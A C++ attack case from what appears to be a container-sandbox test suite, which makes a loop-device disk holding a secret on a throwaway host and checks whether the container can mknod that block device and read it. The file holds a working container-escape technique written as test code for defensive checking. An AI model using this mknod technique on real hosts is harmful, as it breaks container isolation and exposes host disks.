// SPDX-License-Identifier: MIT
// Makes a device node for a disk of the host, and reads the disk: mknod(2).
// It has worked if the container has the secret that is on the disk.
//
// The disk is the throwaway host's own, a loop device: loop(4). It goes when
// its last descriptor is closed.
#include <fcntl.h>
#include <linux/loop.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

#include "common/check.hpp"
#include "common/unique_fd.hpp"
#include "tests/attacks/rig/attack.hpp"
#include "tests/attacks/rig/host.hpp"
#include "tests/support/files.hpp"

namespace attacks {
namespace {

using common::check;
using common::UniqueFd;

constexpr unsigned kLoopMajor = 7;

UniqueFd open_file(const char* path) {
  return UniqueFd(check(open(path, O_RDONLY | O_CLOEXEC), "open", path));
}

UniqueFd open_loop_control() {
  const char* path = "/dev/loop-control";
  check(mknod(path, S_IFCHR | 0600, makedev(10, 237)), "mknod", path);
  UniqueFd control(open(path, O_RDWR | O_CLOEXEC));
  if (control.get() == -1) throw Missing{"loop devices: try modprobe loop"};
  return control;
}

class Disk final : public Attack {
 public:
  Disk()
      : Attack({
            .name = "disk",
            .title = "mknod the host's disk and read it",
            .open = "a device is known by its number alone, and root may make "
                    "a node for any: mknod(2) wants CAP_MKNOD. No namespace "
                    "is about devices; the devices cgroup and a user "
                    "namespace are",
        }) {}

  Words prepare(Host& host) override {
    std::string content = host.secret();
    constexpr size_t kSector = 512;
    content.resize(kSector);
    support::write_file("/root/image", content);
    const UniqueFd image = open_file("/root/image");
    const UniqueFd control = open_loop_control();
    loop_config config{};
    config.fd = static_cast<unsigned>(image.get());
    config.info.lo_flags = LO_FLAGS_READ_ONLY | LO_FLAGS_AUTOCLEAR;
    for (;;) {
      const int number =
          check(ioctl(control.get(), LOOP_CTL_GET_FREE), "ioctl");
      const std::string path = "/dev/loop" + std::to_string(number);
      const dev_t device = makedev(kLoopMajor, static_cast<unsigned>(number));
      mknod(path.c_str(), S_IFBLK | 0600, device);
      disk_ = open_file(path.c_str());
      if (ioctl(disk_.get(), LOOP_CONFIGURE, &config) == 0) {
        return {std::to_string(number)};
      }
      // Somebody else on the machine was quicker to take it.
      if (errno != EBUSY) common::fail(errno, "ioctl LOOP_CONFIGURE");
    }
  }

  void attempt(const Words& words) override {
    const char* path = "/tmp/disk";
    const auto number = static_cast<unsigned>(std::stoi(words[0]));
    try_to(
        mknod(path, S_IFBLK | 0600, makedev(kLoopMajor, number)),
        "mknod",
        "of block device 7:" + words[0]);
    read_secret(path);
  }

 private:
  UniqueFd disk_;
};

const Entry<Disk> kEntry;

}  // namespace
}  // namespace attacks
